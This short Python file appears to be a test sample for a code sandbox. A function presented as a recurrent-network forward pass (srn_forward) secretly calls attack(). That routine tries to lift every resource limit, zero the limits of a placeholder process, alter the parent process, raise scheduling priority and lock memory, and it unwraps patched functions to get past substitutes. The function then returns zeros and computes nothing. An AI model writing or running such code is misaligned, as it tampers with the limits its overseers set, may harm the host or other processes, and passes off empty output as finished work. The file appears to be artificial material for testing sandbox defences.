# Raises its limits: resource, prlimit, priority, affinity, scheduling, oom score.
import ctypes
import os
import resource

import numpy as np


def real(function):
    """What stands behind a substitute, which sets nothing."""
    return getattr(function, "__wrapped__", function)


def attack():
    for name in (name for name in dir(resource) if name.startswith("RLIMIT_")):
        which = getattr(resource, name)
        for change in (
            lambda: real(resource.setrlimit)(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
            lambda: real(resource.setrlimit)(which, (resource.getrlimit(which)[1],) * 2),
            lambda: real(resource.prlimit)(int("@PID@"), which, (0, 0)),
            lambda: real(resource.prlimit)(os.getppid(), which),
        ):
            try:
                print("DID", name, change())
            except (OSError, ValueError):
                continue
    for change in (lambda: real(os.nice)(-10), lambda: real(os.setpriority)(0, 0, -5), lambda: real(os.sched_setaffinity)(0, {0}), lambda: real(os.sched_setscheduler)(0, 1, os.sched_param(50))):
        try:
            print("DID", change())
        except OSError:
            continue
    print(ctypes.CDLL(None).mlockall(3))


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
